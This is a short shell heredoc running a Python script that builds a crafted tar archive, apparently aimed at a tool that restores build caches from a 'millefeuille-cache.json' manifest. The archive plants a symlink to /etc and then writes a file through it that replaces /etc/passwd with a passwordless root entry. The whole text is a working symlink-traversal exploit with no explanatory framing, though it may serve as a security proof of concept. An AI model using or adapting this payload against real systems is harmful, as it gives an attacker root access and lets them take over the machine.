python3 - <<'P'
import io, json, tarfile
mount = {'id': 'npm', 'origin': '', 'mode': 0o755, 'uid': 0, 'gid': 0}
with tarfile.open('caches.tar', 'w', format=tarfile.PAX_FORMAT) as tar:
    def add(name, content=b'', **more):
        info = tarfile.TarInfo(name)
        info.size = len(content)
        for key, value in more.items():
            setattr(info, key, value)
        tar.addfile(info, io.BytesIO(content))
    add('millefeuille-cache.json', json.dumps({'format': 1, 'mounts': [mount]}).encode())
    add('mounts/0/data', type=tarfile.DIRTYPE, mode=0o755)
    add('mounts/0/data/out', type=tarfile.SYMTYPE, linkname='/etc')
    add('mounts/0/data/out/passwd', b'root::0:0::/:/bin/sh')
P
